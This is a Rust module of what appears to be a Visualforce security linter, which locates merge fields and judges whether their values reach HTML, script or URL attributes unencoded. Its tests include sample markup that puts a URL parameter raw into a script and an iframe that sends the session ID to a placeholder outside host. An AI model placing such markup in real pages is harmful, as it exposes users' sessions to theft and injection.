//! Facts about Visualforce markup shared by lints and the data-flow engine.

use std::ops::Range;

/// The Apex classes a page or component names as `controller` and `extensions` (lower-case),
/// from its root tag.
pub(crate) fn controllers(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut classes = Vec::new();
    if let Some(tag) = root_tag(&lower) {
        for attr in ["controller", "extensions"] {
            if let Some(v) = attribute(tag, attr) {
                classes.extend(v.split(',').map(|c| c.trim().to_string()).filter(|c| !c.is_empty()));
            }
        }
    }
    classes
}

/// Whether the page validates its `id` parameter before anything runs: a page on a standard
/// controller of one record (not a list's, `recordSetVar`) fails with "Id value ... is not valid"
/// unless `id` is empty or the Id of a record of its object.
pub(crate) fn validates_id(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    root_tag(&lower)
        .filter(|t| t.starts_with("<apex:page"))
        .is_some_and(|tag| attribute(tag, "standardcontroller").is_some() && attribute(tag, "recordsetvar").is_none())
}

/// The method a page runs when it loads, before anything is shown: the lower-case name in its
/// root tag's `action="{!name}"`. A component has none.
pub(crate) fn page_action(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    let tag = root_tag(&lower).filter(|t| t.starts_with("<apex:page"))?;
    let value = attribute(tag, "action")?.trim();
    let name = value.strip_prefix("{!")?.strip_suffix('}')?.trim();
    // `{!init}` names a method; an expression (`{!IF(...)}`, `{!URLFOR(...)}`) is not followed.
    let simple = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    simple.then(|| name.to_string())
}

/// The root `<apex:page ...` or `<apex:component ...` start tag of lower-cased markup, without
/// its `>`.
fn root_tag(lower: &str) -> Option<&str> {
    ["<apex:page", "<apex:component"]
        .iter()
        .filter_map(|t| lower.find(t))
        .min()
        .and_then(|start| lower[start..].find('>').map(|end| &lower[start..start + end]))
}

/// The value of `attr="..."` in a lower-cased start tag.
fn attribute<'t>(tag: &'t str, attr: &str) -> Option<&'t str> {
    let mut from = 0;
    while let Some(i) = tag[from..].find(attr) {
        let at = from + i;
        let before_ok = at == 0 || tag.as_bytes()[at - 1].is_ascii_whitespace();
        let rest = tag[at + attr.len()..].trim_start();
        if before_ok && let Some(rest) = rest.strip_prefix('=') {
            let rest = rest.trim_start();
            let quote = rest.chars().next()?;
            if quote == '"' || quote == '\'' {
                return rest[1..].split(quote).next();
            }
        }
        from = at + attr.len();
    }
    None
}

/// The expressions of a page's `{!...}` merge fields, as byte ranges (without `{!` and `}`).
/// Quoted strings inside an expression may hold `}`; an unclosed quote ends at the next `}`.
pub(crate) fn merge_fields(text: &str) -> Vec<Range<usize>> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(k) = memchr::memmem::find(&b[i..], b"{!") {
        let start = i + k + 2;
        let mut j = start;
        let mut depth = 0usize;
        let mut end = None;
        while j < b.len() {
            match b[j] {
                q @ (b'\'' | b'"') => {
                    // A string closes on its line; a stray quote is only a character.
                    let close = b[j + 1..].iter().position(|&c| c == q || c == b'\n');
                    if let Some(n) = close
                        && b[j + 1 + n] == q
                    {
                        j += n + 1;
                    }
                }
                b'{' => depth += 1,
                b'}' if depth == 0 => {
                    end = Some(j);
                    break;
                }
                b'}' => depth -= 1,
                _ => {}
            }
            j += 1;
        }
        let Some(end) = end else { break };
        out.push(start..end);
        i = end + 1;
    }
    out
}

/// Where markup puts a merge field's value, which decides the encoding it needs.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Place {
    /// Text content or an ordinary attribute: Visualforce encodes it for HTML.
    Html,
    /// The body of a `<script>`: JavaScript, which HTML encoding does not protect.
    Script,
    /// A `<style>` body or an HTML comment: not judged.
    Other,
    /// A quoted attribute value of a start tag.
    Attribute {
        /// Lower-case tag and attribute names.
        tag: String,
        attr: String,
        /// Where the value starts, and the start tag's range (from `<` to past `>`).
        value_start: usize,
        tag_range: Range<usize>,
    },
}

/// The script and style bodies and the comments of a page, found once per page.
pub(crate) struct Regions {
    scripts: Vec<Range<usize>>,
    others: Vec<Range<usize>>,
}

impl Regions {
    pub(crate) fn of(text: &str) -> Regions {
        let lower = text.to_ascii_lowercase();
        let mut others = bodies(&lower, "style");
        let mut from = 0;
        while let Some(k) = lower[from..].find("<!--") {
            let start = from + k;
            let end = lower[start + 4..]
                .find("-->")
                .map_or(lower.len(), |e| start + 4 + e + 3);
            others.push(start..end);
            from = end;
        }
        others.sort_by_key(|r| r.start);
        Regions {
            scripts: bodies(&lower, "script"),
            others,
        }
    }

    /// Where the merge field that starts at `at` (its `{!`) is.
    pub(crate) fn place(&self, text: &str, at: usize) -> Place {
        let inside = |rs: &[Range<usize>]| {
            let i = rs.partition_point(|r| r.start <= at);
            i > 0 && rs[i - 1].contains(&at)
        };
        if inside(&self.others) {
            return Place::Other;
        }
        if inside(&self.scripts) {
            return Place::Script;
        }
        match enclosing_attribute(text, at) {
            Some((tag, attr, value_start)) => {
                let lt = text[..at].rfind('<').unwrap_or(0);
                let end = tag_end(text, lt).unwrap_or(text.len());
                Place::Attribute {
                    tag,
                    attr,
                    value_start,
                    tag_range: lt..end,
                }
            }
            None => Place::Html,
        }
    }
}

/// The bodies of every `<name ...>...</name>` element in lower-cased markup, in order.
fn bodies(lower: &str, name: &str) -> Vec<Range<usize>> {
    let open = format!("<{name}");
    let close = format!("</{name}");
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(k) = lower[from..].find(&open) {
        let at = from + k;
        from = at + open.len();
        // `<scripts>`, `<style-x>` are other tags.
        if !lower
            .as_bytes()
            .get(from)
            .is_some_and(|c| c.is_ascii_whitespace() || matches!(c, b'>' | b'/'))
        {
            continue;
        }
        let Some(gt) = tag_end(lower, at) else { break };
        if lower.as_bytes()[gt - 2] == b'/' {
            from = gt;
            continue;
        }
        let end = lower[gt..].find(&close).map_or(lower.len(), |e| gt + e);
        out.push(gt..end);
        from = end;
    }
    out
}

/// Past the `>` that ends the tag starting at `lt`: the first `>` outside a quoted value.
fn tag_end(text: &str, lt: usize) -> Option<usize> {
    let b = text.as_bytes();
    let mut quote = None;
    for (i, &c) in b.iter().enumerate().skip(lt + 1) {
        match (quote, c) {
            (None, b'"' | b'\'') => quote = Some(c),
            (Some(q), _) if c == q => quote = None,
            (None, b'>') => return Some(i + 1),
            _ => {}
        }
    }
    None
}

/// A merge field's reference that names a page variable or a controller property (`q` in
/// `{!q}`), not a member (`acct.Name`) or a global (`$Label.x`).
pub(crate) fn is_property_name(reference: &str) -> bool {
    !reference.is_empty() && reference.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

/// The start tags `<name ...>` of the markup (`name` lower-case; tags match in any case).
pub(crate) fn start_tags<'t>(text: &'t str, name: &str) -> Vec<&'t str> {
    let open = format!("<{name}");
    let finder = memchr::memmem::Finder::new(open.as_bytes());
    let lower = text.to_ascii_lowercase();
    finder
        .find_iter(lower.as_bytes())
        .filter(|&lt| {
            lower[lt + open.len()..]
                .bytes()
                .next()
                .is_some_and(|c| c.is_ascii_whitespace() || c == b'/' || c == b'>')
        })
        .filter_map(|lt| text.get(lt..tag_end(text, lt)?))
        .collect()
}

/// The value of attribute `attr` (lower-case) in a start tag, as written.
pub(crate) fn tag_attribute<'t>(tag: &'t str, attr: &str) -> Option<&'t str> {
    let lower = tag.to_ascii_lowercase();
    let value = attribute(&lower, attr)?;
    // `lower` keeps `tag`'s offsets (ASCII case folding).
    let start = value.as_ptr() as usize - lower.as_ptr() as usize;
    tag.get(start..start + value.len())
}

/// The names an expression reads (`$CurrentPage.parameters.id`, `acct.Name`,
/// `fieldMap[f.label]`), outside strings and not called: their ranges in `expr`.
pub(crate) fn references(expr: &str) -> Vec<Range<usize>> {
    let b = expr.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c == b'\'' || c == b'"' {
            i += b[i + 1..].iter().position(|&d| d == c).map_or(b.len(), |n| n + 2);
            continue;
        }
        if c.is_ascii_alphabetic() || c == b'$' || c == b'_' {
            let start = i;
            while i < b.len() && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'_' | b'$' | b'.')) {
                i += 1;
            }
            let mut j = i;
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            let word = &expr[start..i];
            let literal = ["true", "false", "null"].iter().any(|w| word.eq_ignore_ascii_case(w));
            if b.get(j) != Some(&b'(') && !literal {
                // `map[key]` reads the map: the index is its own reference.
                out.push(start..i);
            }
            continue;
        }
        i += 1;
    }
    out
}

/// Formula functions whose result is their argument encoded.
pub(crate) const ENCODERS: &[&str] = &["htmlencode", "jsencode", "jsinhtmlencode", "urlencode"];

/// Functions whose result carries (part of) the text of the argument at these positions; any
/// other function's result (`LEN`, `ISBLANK`, `VALUE`, `CONTAINS`...) is not the text.
const CARRIERS: &[(&str, &[usize])] = &[
    ("if", &[1, 2]),
    ("blankvalue", &[0, 1]),
    ("nullvalue", &[0, 1]),
    ("substitute", &[0, 2]),
    ("left", &[0]),
    ("right", &[0]),
    ("mid", &[0]),
    ("trim", &[0]),
    ("lower", &[0]),
    ("upper", &[0]),
    ("text", &[0]),
    ("br", &[0]),
];

/// Whether the text of the reference at `r` in `expr` is output as it is, unless one of
/// `encoders` (lower-case function names) wraps it: not compared, not measured, not in an
/// `IF`'s condition, not only an index (`map[r]`).
pub(crate) fn outputs_raw(expr: &str, r: &Range<usize>, encoders: &[&str]) -> bool {
    // The calls that enclose `r`, innermost last: (name, argument index, argument start).
    let b = expr.as_bytes();
    let mut stack: Vec<(String, usize, usize)> = Vec::new();
    let mut brackets = 0usize;
    let mut i = 0;
    while i < r.start {
        match b[i] {
            q @ (b'\'' | b'"') => {
                i += b[i + 1..].iter().position(|&d| d == q).map_or(b.len(), |n| n + 1);
            }
            b'(' => {
                let name_end = expr[..i].trim_end().len();
                let name_start = expr[..name_end]
                    .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
                    .map_or(0, |p| p + 1);
                stack.push((expr[name_start..name_end].to_ascii_lowercase(), 0, i + 1));
            }
            b')' => {
                stack.pop();
            }
            b',' => {
                if let Some(top) = stack.last_mut() {
                    top.1 += 1;
                    top.2 = i + 1;
                }
            }
            b'[' => brackets += 1,
            b']' => brackets = brackets.saturating_sub(1),
            _ => {}
        }
        i += 1;
    }
    if brackets > 0 {
        return false;
    }
    // The argument (or whole expression) the reference sits in must not compare it.
    let arg_start = stack.last().map_or(0, |t| t.2);
    let arg_end = argument_end(expr, r.end);
    if compares(&expr[arg_start..arg_end]) {
        return false;
    }
    for (name, index, _) in stack.iter().rev() {
        if encoders.contains(&name.as_str()) {
            return false;
        }
        // An unnamed group `(a & b)` passes its text on, and so does an encoding that does
        // not fit the place (`HTMLENCODE` in a script).
        if name.is_empty() || ENCODERS.contains(&name.as_str()) {
            continue;
        }
        match CARRIERS.iter().find(|(n, _)| n == name) {
            Some((_, args)) if args.contains(index) => continue,
            _ => return false,
        }
    }
    true
}

/// Where the argument that continues at `from` ends: the next `,` or `)` at its depth.
fn argument_end(expr: &str, from: usize) -> usize {
    let b = expr.as_bytes();
    let mut depth = 0usize;
    let mut i = from;
    while i < b.len() {
        match b[i] {
            q @ (b'\'' | b'"') => {
                i += b[i + 1..].iter().position(|&d| d == q).map_or(b.len(), |n| n + 1);
            }
            b'(' | b'[' => depth += 1,
            b')' | b']' if depth == 0 => return i,
            b')' | b']' => depth -= 1,
            b',' if depth == 0 => return i,
            _ => {}
        }
        i += 1;
    }
    b.len()
}

/// Whether an expression compares or tests (its value is a Boolean), outside strings and
/// nested calls.
fn compares(arg: &str) -> bool {
    let b = arg.as_bytes();
    let mut depth = 0usize;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            q @ (b'\'' | b'"') => {
                i += b[i + 1..].iter().position(|&d| d == q).map_or(b.len(), |n| n + 1);
            }
            b'(' | b'[' => depth += 1,
            b')' | b']' => depth = depth.saturating_sub(1),
            b'=' | b'<' | b'>' | b'!' | b'|' if depth == 0 => return true,
            b'&' if depth == 0 && b.get(i + 1) == Some(&b'&') => return true,
            _ => {}
        }
        i += 1;
    }
    let lower = arg.to_ascii_lowercase();
    [" and ", " or ", "&gt;", "&lt;"].iter().any(|w| lower.contains(w))
}

/// Visualforce attributes that load or submit to a URL.
pub(crate) fn url_attribute(tag: &str, attr: &str) -> bool {
    matches!(attr, "action" | "src" | "href" | "data" | "formaction")
        || (matches!(tag, "apex:outputlink" | "lightning:formattedurl" | "ui:outputurl") && attr == "value")
        || (tag == "meta" && attr == "content")
}

/// The tag, attribute name (both lower-case) and value start of the attribute value that
/// contains `at`, if `at` is inside a start tag's quoted attribute value.
pub(crate) fn enclosing_attribute(text: &str, at: usize) -> Option<(String, String, usize)> {
    let before = &text[..at];
    let lt = before.rfind('<')?;
    // Inside text content, not a tag, when a `>` closes the tag before `at` (merge fields may
    // contain `>` only as an operator, which Visualforce writes as `&gt;`).
    if before[lt..].contains('>') {
        return None;
    }
    let tag_text = &before[lt + 1..];
    let tag: String = tag_text
        .chars()
        .take_while(|c| !c.is_whitespace() && *c != '/')
        .collect::<String>()
        .to_ascii_lowercase();
    // The attribute value we are in starts at the last quote preceded by `=`.
    let bytes = before.as_bytes();
    let mut i = at;
    while i > lt {
        i -= 1;
        let c = bytes[i];
        if (c == b'"' || c == b'\'') && i > 0 {
            let mut j = i;
            while j > lt && bytes[j - 1].is_ascii_whitespace() {
                j -= 1;
            }
            if j > lt && bytes[j - 1] == b'=' {
                let mut k = j - 1;
                while k > lt && bytes[k - 1].is_ascii_whitespace() {
                    k -= 1;
                }
                let name_end = k;
                while k > lt && !bytes[k - 1].is_ascii_whitespace() {
                    k -= 1;
                }
                let name = before[k..name_end].to_ascii_lowercase();
                // The quote must not be closed between the value start and `at`.
                if !before[i + 1..].contains(c as char) {
                    return Some((tag, name, i + 1));
                }
                return None;
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controllers_and_extensions() {
        let page = "<apex:page standardController=\"Account\" extensions=\"AcctExt, Other\" controller='Main'>";
        assert_eq!(controllers(page), ["main", "acctext", "other"]);
        assert!(controllers("<apex:page>").is_empty());
    }

    #[test]
    fn id_validated_by_standard_controllers() {
        assert!(validates_id("<apex:page standardController=\"Case\" extensions=\"X\">"));
        assert!(!validates_id(
            "<apex:page standardController=\"Case\" recordSetVar=\"cases\">"
        ));
        assert!(!validates_id("<apex:page controller=\"Case\">"));
        assert!(!validates_id("<apex:component controller=\"C\">"));
    }

    #[test]
    fn page_actions() {
        assert_eq!(
            page_action("<apex:page controller=\"C\" action=\"{! Init }\">").as_deref(),
            Some("init")
        );
        assert_eq!(
            page_action("<apex:page controller='C' action='{!URLFOR($Action.Account.List)}'>"),
            None
        );
        assert_eq!(page_action("<apex:component action=\"{!x}\">"), None);
        // `extensions`, `reRenderAction`... are not `action`.
        assert_eq!(page_action("<apex:page extensions=\"E\" pageaction=\"{!x}\">"), None);
    }

    fn exprs(t: &str) -> Vec<&str> {
        merge_fields(t).into_iter().map(|r| &t[r]).collect()
    }

    #[test]
    fn merge_field_expressions() {
        assert_eq!(
            exprs("a {!x} b {! IF(y, '}', z) } '{!w}'"),
            ["x", " IF(y, '}', z) ", "w"]
        );
        assert_eq!(
            exprs("var s = '{!$CurrentPage.parameters.id}';"),
            ["$CurrentPage.parameters.id"]
        );
        // Unclosed: no expression, and no panic.
        assert!(exprs("{!x").is_empty());
        assert!(exprs("{!'abc").is_empty());
        assert_eq!(exprs("{!a ' b}\n'"), ["a ' b"]);
    }

    #[test]
    fn places() {
        let t = "<apex:page><script src='/a.js'/><script>var a = '{!x}';</script>\
            <style>.a{color:{!c}}</style><!-- {!h} --><a href=\"{!u}\" onclick='go(\"{!o}\")'>{!t}</a>\
            <apex:outputText escape=\"false\" value=\"{!v}\"/><scripts>{!n}</scripts></apex:page>";
        let regions = Regions::of(t);
        let place = |name: &str| regions.place(t, t.find(&format!("{{!{name}}}")).unwrap_or(0));
        assert_eq!(place("x"), Place::Script);
        assert_eq!(place("c"), Place::Other);
        assert_eq!(place("h"), Place::Other);
        assert_eq!(place("t"), Place::Html);
        assert_eq!(place("n"), Place::Html);
        let Place::Attribute {
            tag, attr, tag_range, ..
        } = place("v")
        else {
            panic!("an attribute");
        };
        assert_eq!((tag.as_str(), attr.as_str()), ("apex:outputtext", "value"));
        assert_eq!(tag_attribute(&t[tag_range], "escape"), Some("false"));
        assert!(matches!(place("o"), Place::Attribute { attr, .. } if attr == "onclick"));
        assert!(matches!(place("u"), Place::Attribute { attr, .. } if attr == "href"));
    }

    fn raw(expr: &str, name: &str) -> bool {
        let refs = references(expr);
        assert!(refs.iter().any(|r| &expr[r.clone()] == name), "{name} is read");
        refs.iter()
            .any(|r| &expr[r.clone()] == name && outputs_raw(expr, r, ENCODERS))
    }

    #[test]
    fn raw_outputs() {
        assert!(raw("$CurrentPage.parameters.id", "$CurrentPage.parameters.id"));
        assert!(raw("'a' & p & 'b'", "p"));
        assert!(raw("IF(ISBLANK(p), 'none', p)", "p"));
        assert!(raw("LEFT(p, 15)", "p"));
        assert!(raw("(p)", "p"));
        assert!(!raw("JSENCODE(p)", "p"));
        assert!(!raw("HTMLENCODE(JSENCODE(p))", "p"));
        assert!(!raw("IF(p == 'true', 'a', 'b')", "p"));
        assert!(!raw("IF(ISBLANK(p), 'a', 'b')", "p"));
        assert!(!raw("LEN(p)", "p"));
        assert!(!raw("p != null", "p"));
        assert!(!raw("NOT(p)", "p"));
        assert!(!raw("labels[p]", "p"));
        assert!(raw("labels[p]", "labels"));
        assert!(!raw("a &gt; p", "p"));
        // Called names and literals are not references.
        assert_eq!(references("IF(true, x, 'y z')").len(), 1);
    }

    #[test]
    fn start_tags_of_a_name() {
        let t = r#"<apex:page><c:Hover text="a > b"/><c:HoverText text='x'/><C:HOVER
            text="{!y}"></c:hover></apex:page>"#;
        let tags = start_tags(t, "c:hover");
        assert_eq!(tags.len(), 2);
        assert_eq!(tags[0], r#"<c:Hover text="a > b"/>"#);
        assert_eq!(tag_attribute(tags[1], "text"), Some("{!y}"));
    }

    #[test]
    fn attributes() {
        let t = r#"<apex:page><iframe width="1" src="https://x.example/?s={!$Api.Session_ID}"/> <p>{!$Api.Session_ID}</p></apex:page>"#;
        let at = t.find("$Api").unwrap_or(0);
        assert_eq!(
            enclosing_attribute(t, at).map(|(t, a, _)| (t, a)),
            Some(("iframe".to_string(), "src".to_string()))
        );
        let at = t.rfind("$Api").unwrap_or(0);
        assert_eq!(enclosing_attribute(t, at), None);
    }
}
